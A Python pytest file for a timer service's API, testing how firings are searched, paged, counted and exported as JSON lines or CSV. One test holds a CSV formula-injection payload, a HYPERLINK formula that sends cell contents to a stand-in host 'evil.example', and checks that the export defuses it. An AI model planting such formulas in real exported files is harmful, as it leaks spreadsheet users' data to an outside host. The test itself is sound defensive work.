"""Firings searched over an app, and exported."""

import csv
import io
import json
import sys
from collections import Counter
from dataclasses import dataclass
from typing import Any

import pytest

from tests.api.world import DEF, RECORDS, URL, World
from wangtimer.core.flow.firing import FiringStatus, Member
from wangtimer.core.flow.outcome import Outcome
from wangtimer.store.sql import parts

FIRINGS, EXPORT, COUNTS = (f"/api/task/v1/{word}" for word in ("firings", "export", "counts"))
MINUTE = 60_000


def settle(world: World, timer_id: int, status: FiringStatus, moment: int, late_ms: int = 1) -> None:
    member = Member(timer_id, moment, 1)
    world.wiring.firings.settle(
        [Outcome(member, 0, status, moment, lateness_ms=late_ms, http_status=204, output='a "b",\n中')]
    )


@dataclass(frozen=True)
class Some:
    """Two timers of one app and one of another, eleven minutes on from the moment of the first of their firings."""

    world: World
    a: int
    b: int
    others: int
    first: int

    def search(self, **query: Any) -> list[tuple[int, int]]:
        return keys(self.world.get(FIRINGS, app="shop", **query))


@pytest.fixture
def some(world: World) -> Some:
    a = world.enabled(name="a", cron="* * * * *")
    b = world.enabled(name="b", cron="*/2 * * * *")
    other = world.enabled(app="bank", name="a", cron="* * * * *")
    first = world.get("/api/task/v1/records", app="shop", id=a, pending="true").data[-1]["fireAtMs"]
    settle(world, a, FiringStatus.SUCCEEDED, first)
    settle(world, a, FiringStatus.FAILED, first + MINUTE, late_ms=5_000)
    settle(world, b, FiringStatus.SUCCEEDED, first + 10 * MINUTE, late_ms=90)
    settle(world, other, FiringStatus.FAILED, first)
    world.clock.now = first + 11 * MINUTE
    return Some(world, a, b, other, first)


def keys(answer: Any) -> list[tuple[int, int]]:
    assert answer.status == 200, answer.json
    return [(row["timerID"], row["fireAtMs"]) for row in answer.data]


def test_they_are_the_apps_own_latest_first(some: Some) -> None:
    a, b, first = some.a, some.b, some.first
    found = list(some.search(status="succeeded"))
    assert found == [(b, first + 10 * MINUTE), (a, first)]
    whole = some.search()
    assert whole == sorted(whole, key=lambda key: (key[1], key[0]), reverse=True)


def test_filters_leave_those_wanted(some: Some) -> None:
    a, b, first = some.a, some.b, some.first
    assert some.search(status="failed") == [(a, first + MINUTE)]
    assert some.search(id=b, status="succeeded") == [(b, first + 10 * MINUTE)]
    assert some.search(laterThanMs=89) == [(b, first + 10 * MINUTE), (a, first + MINUTE)]
    assert some.search(since=first + 1, until=first + MINUTE, status="failed") == [(a, first + MINUTE)]
    assert some.search(until=first - 1) == []


def test_another_apps_timer_has_none_here(some: Some) -> None:
    assert some.search(id=some.others) == []


def test_pages_go_on_where_they_stopped(some: Some) -> None:
    whole, found, cursor = some.search(), [], {}
    while True:
        answer = some.world.get(FIRINGS, app="shop", limit=1, **cursor)
        found += keys(answer)
        if answer.json["nextCursor"] is None:
            break
        cursor = {"cursor": answer.json["nextCursor"]}
    assert found == whole


def test_a_deleted_timers_firings_stay(some: Some) -> None:
    before = some.search(id=some.a)
    some.world.call("DELETE", DEF, json={"app": "shop", "id": some.a})
    assert set(before) <= set(some.search(id=some.a))


@pytest.mark.parametrize(
    "query", [{"since": "yesterday"}, {"status": "late"}, {"laterThanMs": -1}, {"cursor": "x"}]
)
def test_what_cannot_be_asked_is_refused(some: World, query: dict[str, Any]) -> None:
    assert some.world.get(FIRINGS, app="shop", **query).status == 400


def test_an_export_has_every_row_in_either_form(some: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.modules["wangtimer.api.compat.firings.firing_routes"], "EXPORT_PAGE", 1)
    rows = some.world.get(FIRINGS, app="shop").data
    lines = some.world.client.get(EXPORT, query_string={"app": "shop"})
    assert lines.mimetype == "application/x-ndjson"
    assert [json.loads(line) for line in lines.data.splitlines()] == rows
    table = some.world.client.get(EXPORT, query_string={"app": "shop", "format": "csv"})
    assert table.mimetype == "text/csv"
    read = list(csv.DictReader(io.StringIO(table.data.decode(), newline="")))
    assert [(int(row["timerID"]), int(row["fireAtMs"])) for row in read] == some.search()
    assert {row["output"] for row in read} == {row["output"] for row in rows}


def test_a_spreadsheet_runs_no_cell_of_a_table_and_lines_of_json_have_each_text_as_it_is(some: Some) -> None:
    """A target's answer is whatever the target writes."""
    member = Member(some.b, some.first + 2 * MINUTE, 1)
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    some.world.wiring.firings.settle(
        [
            Outcome(
                member,
                0,
                FiringStatus.FAILED,
                member.fire_at,
                lateness_ms=-1,
                http_status=500,
                output=formula,
            )
        ]
    )
    table = some.world.client.get(EXPORT, query_string={"app": "shop", "format": "csv", "status": "failed"})
    row = next(one for one in csv.DictReader(io.StringIO(table.text)) if one["output"].endswith("A1)"))
    assert (row["output"], row["latenessMs"]) == (f"'{formula}", "-1")
    lines = some.world.client.get(EXPORT, query_string={"app": "shop", "status": "failed"})
    assert formula in [json.loads(line)["output"] for line in lines.data.splitlines()]


def test_an_export_of_nothing_has_its_header(world: World) -> None:
    table = world.client.get(EXPORT, query_string={"app": "shop", "format": "csv"})
    assert table.data.decode().startswith("timerID,app,runTimer,")
    assert URL not in table.data.decode()


NONE = {"pending": 0, "succeeded": 0, "failed": 0, "skipped": 0}


def counts(some: Some, **query: Any) -> dict[str, int]:
    answer = some.world.get(COUNTS, app="shop", **query)
    assert answer.status == 200, answer.json
    return {status: number for status, number in answer.data.items() if number}


def test_firings_are_counted_by_outcome_as_the_search_finds_them(some: Some) -> None:
    searched = Counter(row["statusName"] for row in some.world.get(FIRINGS, app="shop", limit=500).data)
    assert counts(some) == searched
    assert searched["succeeded"] == 2
    assert counts(some, status="failed") == {"failed": 1}
    assert counts(some, id=some.b, until=some.first + 10 * MINUTE, laterThanMs=89) == {"succeeded": 1}
    assert counts(some, since=some.first, until=some.first, id=some.a) == {"succeeded": 1}
    assert counts(some, id=some.others) == {}
    assert some.world.get(COUNTS, app="nobody").data == NONE


def test_where_there_are_no_firings_there_are_none_of_each_outcome(world: World) -> None:
    assert world.get(COUNTS, app="shop").data == NONE


def test_what_takes_too_long_to_look_through_is_refused_and_exported(
    some: Some, monkeypatch: pytest.MonkeyPatch
) -> None:
    listed = some.world.get(FIRINGS, app="shop").data
    monkeypatch.setattr(parts, "LONGEST_S", 0.0)
    for path in (COUNTS, FIRINGS):
        refused = some.world.get(path, app="shop")
        assert (refused.status, refused.code, refused.json["field"]) == (400, 40007, "since")
    exported = some.world.client.get(EXPORT, query_string={"app": "shop"})
    assert [json.loads(line) for line in exported.text.splitlines()] == listed


@pytest.mark.parametrize("query", [{"status": "late"}, {"limit": 5}, {"cursor": "x"}])
def test_counting_takes_no_more_than_the_filters(small_world: World, query: dict[str, Any]) -> None:
    assert small_world.get(COUNTS, app="shop", **query).status == 400


@pytest.mark.parametrize("path", ["firings", "counts", "export"])
def test_a_range_that_ends_before_it_begins_is_refused(small_world: World, path: str) -> None:
    now = small_world.clock.now
    wrong = small_world.get(f"/api/task/v1/{path}", app="shop", since=now, until=now - 1)
    assert (wrong.code, wrong.json["field"]) == (40007, "since")
    assert small_world.get("/api/task/v1/firings", app="shop", since=now, until=now).data == []


def test_a_replay_of_a_range_that_ends_before_it_begins_is_refused(small_world: World) -> None:
    now = small_world.clock.now
    wrong = small_world.post("/api/task/v1/replay", app="shop", since=now, until=now - 1)
    assert (wrong.code, wrong.json["field"]) == (40007, "since")


def test_each_row_says_its_kind_and_is_found_by_it(world: World) -> None:
    timer_id = world.enabled(name="a", cron=None, delayMs=1_000)
    world.post("/api/task/v1/fire", app="shop", id=timer_id)
    world.clock.now += MINUTE
    assert [row["kind"] for row in world.get(FIRINGS, app="shop").data] == ["scheduled", "manual"]
    assert [row["kind"] for row in world.get(FIRINGS, app="shop", kind="manual").data] == ["manual"]
    assert [row["kind"] for row in world.get(RECORDS, app="shop", id=timer_id).data] == [
        "scheduled",
        "manual",
    ]
    assert sum(world.get(COUNTS, app="shop", kind="backfill").data.values()) == 0
    exported = world.client.get(EXPORT, query_string={"app": "shop", "format": "csv", "kind": "manual"})
    assert [row["kind"] for row in csv.DictReader(io.StringIO(exported.text))] == ["manual"]
